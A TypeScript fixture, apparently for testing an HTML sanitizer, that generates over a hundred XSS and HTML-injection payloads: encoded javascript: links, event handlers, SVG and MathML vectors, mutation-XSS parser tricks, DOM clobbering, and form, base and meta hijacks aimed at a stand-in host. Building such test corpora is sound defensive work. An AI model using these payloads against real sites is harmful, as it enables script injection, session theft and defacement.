/**
 * Hostile HTML. Executed code adds the name of its snippet to `__executed` of the top window. Other harm is detected by
 * requests or by changes to the page: the title, the base, or names in the document.
 */
export interface HostileSnippet {
  name: string;
  html: string;
}

/** A host that does not exist. Any request to it has left the page. */
const ELSEWHERE = 'https://elsewhere.example';

/** Contains no double quotes and no white space, so that it fits into any attribute, even an unquoted one. */
const runFor = (name: string) => `(top.__executed??=[]).push('${name}')`;

const inEntities = (code: string) => [...code].map((character) => `&#${character.codePointAt(0)};`).join('');
const inBase64 = (code: string) => Buffer.from(code).toString('base64');

const WRITTEN: Record<string, (run: string) => string> = {
  // Scripts
  script: (run) => `<script>${run}</script>`,
  'script in capitals': (run) => `<ScRiPt >${run}</sCrIpT >`,
  'script after a slash': (run) => `<script/x>${run}</script/x>`,
  'script without end': (run) => `<script>${run}`,
  'script in a script': (run) => `<scr<script></script>ipt>${run}</scr<script></script>ipt><script>${run}</script>`,
  'script from elsewhere': () => `<script src="${ELSEWHERE}/a.js"></script>`,
  'script from a data address': (run) => `<script src="data:text/javascript;base64,${inBase64(run)}"></script>`,
  'module script': (run) => `<script type="module">${run}</script>`,
  'script between null bytes': (run) => `<scr\0ipt>${run}</scr\0ipt><script\0>${run}</script>`,
  'script after a byte order mark': (run) => `\uFEFF<script>${run}</script>`,

  // Event handlers
  'image error': (run) => `<img src=x onerror="${run}">`,
  'image error, slashes for spaces': (run) => `<img/src="x"/onerror=${run}>`,
  'image error, in entities': (run) => `<img src=x onerror="${inEntities(run)}">`,
  'image error, quotes that do not match': (run) => `<img src="x\`"onerror="${run}" alt='">`,
  'image error out of an attribute': (run) =>
    `<a title="</a><img src=x onerror=${run}>">a</a><p title='"><img src=x onerror="${run}">'>`,
  'image load': (run) => `<img src="/pixel.gif" onload="${run}" onerror="${run}">`,
  'hover and press': (run) => `<p onmouseover="${run}" onpointerdown="${run}" onclick="${run}">hover here</p>`,
  'focus by itself': (run) => `<input autofocus onfocus="${run}">`,
  'focus on anything': (run) => `<p tabindex="0" autofocus onfocus="${run}" onfocusin="${run}">a</p>`,
  'details toggled': (run) => `<details open ontoggle="${run}"><summary>a</summary>b</details>`,
  'popover toggled': (run) =>
    `<button popovertarget="pop-1">a</button><div popover id="pop-1" onbeforetoggle="${run}" ontoggle="${run}">b</div>`,
  'animation start': (run) =>
    `<style>@keyframes k{to{color:red}}</style><p style="animation:k 1ms" onanimationstart="${run}">a</p>`,
  'transition end': (run) =>
    `<style>.t{color:red;transition:color 1ms}.t:hover{color:blue}</style><p class="t" ontransitionend="${run}">hover here</p>`,
  'body handlers': (run) => `<body onload="${run}" onpageshow="${run}" onfocus="${run}" onhashchange="${run}">`,
  'marquee start': (run) => `<marquee onstart="${run}">a</marquee>`,
  'media error': (run) =>
    `<video src="x" onerror="${run}"></video><audio src="x" onerror="${run}"></audio><video><source src="x" onerror="${run}"></video>`,
  'scroll end': (run) =>
    `<div style="overflow:auto;height:9px" onscroll="${run}" onscrollend="${run}"><p id="far-1" style="margin-top:99px">a</p></div>`,
  'content visibility': (run) =>
    `<p style="content-visibility:auto;display:block" oncontentvisibilityautostatechange="${run}">a</p>`,
  'handler on an unknown element': (run) =>
    `<xss onclick="${run}" onpointerenter="${run}" tabindex="1" onfocus="${run}">a</xss>`,
  'handler on a closing tag': (run) => `<p>a</p onclick="${run}"></br onclick="${run}">`,
  'handler with a form feed': (run) => `<img\fsrc=x\fonerror="${run}">`,

  // URLs that execute code
  'javascript link': (run) => `<a href="javascript:${run}">a</a>`,
  'javascript link in capitals': (run) => `<a href="JaVaScRiPt:${run}">a</a>`,
  'javascript link, in entities': (run) => `<a href="${inEntities(`javascript:${run}`)}">a</a>`,
  'javascript link, entities without semicolon': (run) =>
    `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:${run}">a</a>`,
  'javascript link, named entities': (run) => `<a href="java&Tab;scr&NewLine;ipt&colon;${run}">a</a>`,
  'javascript link with a tab': (run) => `<a href="java\tscript:${run}">a</a>`,
  'javascript link with line breaks': (run) => `<a href="\njava\r\nscript\n:${run}">a</a>`,
  'javascript link after a control character': (run) => `<a href="&#1;&#31; javascript:${run}">a</a>`,
  'javascript link behind a comment': (run) => `<a href="javascript://www.example/%0a${run}">a</a>`,
  'javascript link with a null byte': (run) => `<a href="java\0script:${run}">a</a>`,
  'javascript link in a new window': (run) => `<a href="javascript:${run}" target="_self" rel="opener">a</a>`,
  'javascript in an image map': (run) =>
    `<img src="/pixel.gif" width="40" height="40" usemap="#m"><map name="m"><area shape="default" href="javascript:${run}"></map>`,
  'vbscript link': (run) => `<a href="vbscript:${run}">a</a>`,
  'data link': (run) => `<a href="data:text/html,<script>${run}</script>">a</a>`,
  'data image': (run) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;${run}&quot;/>">`,
  'opener kept': () =>
    `<a href="javascript:void 0" target="_blank" rel="opener">a</a><a href="${ELSEWHERE}/" target="_blank" rel="opener" ping="${ELSEWHERE}/ping">b</a>`,
  'host behind a backslash': () =>
    `<form action="/\\elsewhere.example/"><button>a</button></form><a href="/\\elsewhere.example/">a</a>`,
  'host behind a tab': () => `<a href="/\t/elsewhere.example/">a</a>`,
  'host behind dots': () => '<a href="/..//elsewhere.example/x">a</a><a href="/en//elsewhere.example">b</a>',

  // SVG
  'svg load': (run) => `<svg onload="${run}"></svg>`,
  'svg script': (run) => `<svg><script>${run}</script></svg>`,
  'svg script, in entities': (run) => `<svg><script>${inEntities(run)}</script></svg>`,
  'svg link': (run) =>
    `<svg width="80" height="40"><a xlink:href="javascript:${run}"><rect width="80" height="40"/></a></svg>`,
  'svg animated link': (run) =>
    `<svg width="80" height="40"><a><animate attributeName="href" values="javascript:${run}"/><rect width="80" height="40"/></a></svg>`,
  'svg animation begin': (run) =>
    `<svg><animate onbegin="${run}" attributeName="x" dur="1ms"></animate><set onbegin="${run}" attributeName="x"/></svg>`,
  'svg foreign object': (run) => `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  'svg use': (run) =>
    `<svg><use href="data:image/svg+xml;base64,${inBase64(`<svg id="a" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${run}"/></svg>`)}#a"/></svg>`,
  'svg image': (run) => `<svg><image href="x" onerror="${run}"></image></svg>`,
  'svg image from elsewhere': () => `<svg><image href="${ELSEWHERE}/a.png" width="9" height="9"/></svg>`,
  'svg focus': (run) => `<svg><a tabindex="0" autofocus onfocus="${run}"><text y="20">a</text></a></svg>`,

  // MathML
  'math action': (run) =>
    `<math><maction actiontype="statusline" href="javascript:${run}" onclick="${run}"><mtext>a</mtext></maction></math>`,
  'math link': (run) => `<math href="javascript:${run}"><mi>a</mi></math>`,
  'math annotation': (run) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,

  // Markup that is parsed differently the second time
  'mutation by math, table and style': (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></mtext></math>`,
  'mutation by form and mglyph': (run) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}"></style></mglyph></mtext></math></form>`,
  'mutation by noscript': (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'mutation by svg and title': (run) => `<svg><title><style><img src=x onerror="${run}"></style></title></svg>`,
  'mutation by svg, paragraph and style': (run) =>
    `<svg></p><style><a id="</style><img src=x onerror=${run}>"></style></svg>`,
  'mutation by select and style': (run) => `<select><style></select><img src=x onerror="${run}"></style>`,
  'mutation by select and template': (run) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  'mutation by a comment without end': (run) => `<!--><img src=x onerror="${run}"><!-- `,
  'mutation by a comment end': (run) => `<!-- a --!><img src=x onerror="${run}"><!-- -->`,
  'mutation by a processing instruction': (run) => `<?xml version="1.0" ?><?a><img src=x onerror="${run}">?>`,
  'mutation by CDATA': (run) =>
    `<svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg><![CDATA[><img src=x onerror="${run}">]]>`,
  'mutation by nested forms': (run) =>
    `<form id="f"><div></form><form><input form="f" formaction="javascript:${run}" type="submit">`,
  'mutation by foster parents': (run) => `<table><p><a href="/x"><td><img src=x onerror="${run}"></a></table>`,
  'mutation by formatting': (run) => `<a><b><p></a><table><i></b><img src=x onerror="${run}"></i></table></p>`,

  // Elements whose content is text
  'plain text': (run) => `<plaintext><img src=x onerror="${run}">`,
  'plain text in svg': (run) => `<svg><plaintext></svg><img src=x onerror="${run}">`,
  xmp: (run) => `<xmp></xmp><img src=x onerror="${run}"><xmp><p title="</xmp><img src=x onerror=${run}>">`,
  textarea: (run) =>
    `<textarea></textarea><img src=x onerror="${run}"><textarea><p title="</textarea><img src=x onerror=${run}>">`,
  noembed: (run) => `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
  template: (run) => `<template><img src=x onerror="${run}"></template><template><script>${run}</script></template>`,
  'declarative shadow root': (run) =>
    `<div><template shadowrootmode="open"><img src=x onerror="${run}"><script>${run}</script></template></div>`,
  title: () => '<title>Taken over</title></head><title>Taken over</title><svg><title>Taken over</title></svg>',

  // Frames and the like
  'frame with a script': (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'frame at a javascript address': (run) => `<iframe src="javascript:${run}"></iframe>`,
  'frame from elsewhere': () => `<iframe src="${ELSEWHERE}/frame"></iframe>`,
  'frame of a player': (run) =>
    `<iframe src="https://www.youtube.com/embed/M7lc1UVf-VE?x=&quot;onload=${run}" title="<img src=x onerror=${run}>" onload="${run}"></iframe>`,
  'address of a film': (run) =>
    `<figure><div>https://youtu.be/M7lc1UVf-VE?t=1"onclick="${run}</div><figcaption>&lt;img src=x onerror=${run}&gt;</figcaption></figure>`,
  'card of a film': (run) =>
    `<a href="${ELSEWHERE}/film" data-video="javascript:${run}">a</a><figure><a href="https://vimeo.com/1" data-video="${ELSEWHERE}/player">b</a></figure>`,
  'file block': (run) =>
    `<div class="wp-block-file" data-block="x"><a href="javascript:${run}" data-bytes="9">a</a><a href="/wp-content/uploads/a.p&quot;onclick=&quot;${run}" data-bytes="1e9">b</a></div>`,
  object: (run) => `<object data="javascript:${run}" onerror="${run}"></object><object data="${ELSEWHERE}/o"></object>`,
  embed: (run) => `<embed src="javascript:${run}" onload="${run}"><embed src="${ELSEWHERE}/e">`,
  frameset: (run) => `</body><frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,

  // Changes to the page, and requests to other sites
  base: () => `<base href="${ELSEWHERE}/" target="_blank">`,
  'meta refresh': () => `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refreshed">`,
  'meta policy': () =>
    `<meta http-equiv="Content-Security-Policy" content="img-src *"><meta name="referrer" content="unsafe-url">`,
  'style link': () => `<link rel="stylesheet" href="${ELSEWHERE}/a.css"><link rel="prefetch" href="${ELSEWHERE}/p">`,
  'style import': () => `<style>@import "${ELSEWHERE}/a.css";</style>`,
  'style attribute': () => `<p style="background:url(${ELSEWHERE}/a.png);position:fixed;inset:0">a</p>`,
  'style expression': (run) =>
    `<p style="width:expression(${run});behavior:url(x.htc);-moz-binding:url(x.xml#a)">a</p>`,
  'other picture addresses': () =>
    `<img src="/pixel.gif" srcset="${ELSEWHERE}/2x.png 1x" longdesc="javascript:1" lowsrc="${ELSEWHERE}/l"><picture><source srcset="${ELSEWHERE}/s.png"><img src="/pixel.gif"></picture><img src="data:image/png;base64,AAAA" srcset="${ELSEWHERE}/d.png">`,
  'background and poster': () =>
    `<table background="${ELSEWHERE}/t.png"><tr><td background="${ELSEWHERE}/c.png">a</td></tr></table><video poster="${ELSEWHERE}/v.png"></video><input type="image" src="${ELSEWHERE}/i.png">`,
  form: () => `<form action="${ELSEWHERE}/form" method="get"><input name="a" value="b"><button>a</button></form>`,
  'form action of a button': (run) =>
    `<form action="/x"><button formaction="javascript:${run}">a</button><input type="submit" formaction="javascript:${run}"></form>`,
  'form of the page': () => `<button form="search" formaction="${ELSEWHERE}/stolen">a</button>`,
  'custom element': (run) => `<button is="x-button" onclick="${run}">a</button><x-y onclick="${run}">b</x-y>`,
  'import map': () =>
    `<script type="importmap">{"imports":{"/a.js":"${ELSEWHERE}/a.js"}}</script><script type="speculationrules">{"prerender":[{"urls":["${ELSEWHERE}/"]}]}</script>`,

  // Names that shadow properties used by scripts
  'name of a global': () => `<a id="__settings"></a><a id="__settings" name="url" href="${ELSEWHERE}/">a</a>`,
  'name of a document method': () =>
    '<img name="getElementById"><form name="querySelector"></form><embed name="cookie">',
  'id of the page': () => '<h2 id="content">a</h2><p id="content">b</p>',
  'heading that names a place of the page': () => '<h2>Content</h2>',
  'form fields as properties': (run) =>
    `<form onclick="${run}"><input name="attributes"><input name="children"><input name="parentNode"></form>`,

  // Text that the site's transformations rewrite
  'words that become a label': (run) =>
    `<table><caption>"&gt;&lt;img src=x onerror=${run}&gt;</caption><tr><td>a</td></tr></table>`,
  'words that become an anchor': (run) =>
    `<h2>"&gt;&lt;img src=x onerror=${run}&gt;</h2><p id='a"onclick=${run}'>a</p>`,
  'words that become text': (run) => `<img src="data:x" alt="&lt;img src=x onerror=${run}&gt;">`,
  'quotes in an address': (run) => `<a href='/x"onclick="${run}"'>a</a><a href='#"onclick="${run}"'>a</a>`,
  'picture address that runs': (run) => `<img src="javascript:${run}"><img src='/x"onerror="${run}"'>`,

  // Nesting
  'deep nesting': (run) => `${'<b>'.repeat(150)}<img src=x onerror="${run}">${'</b>'.repeat(150)}`,
  'deep foreign nesting': (run) => `${'<svg>'.repeat(80)}${'<foreignObject>'.repeat(80)}<img src=x onerror="${run}">`,
  'end tags of the page': (run) => `</div></div></main></body></html><img src=x onerror="${run}">`,
};

export const hostileSnippets: readonly HostileSnippet[] = Object.entries(WRITTEN).map(([title, write]) => {
  const name = title.toLowerCase().replaceAll(/[^a-z]+/g, '-');
  return { name, html: write(runFor(name)) };
});
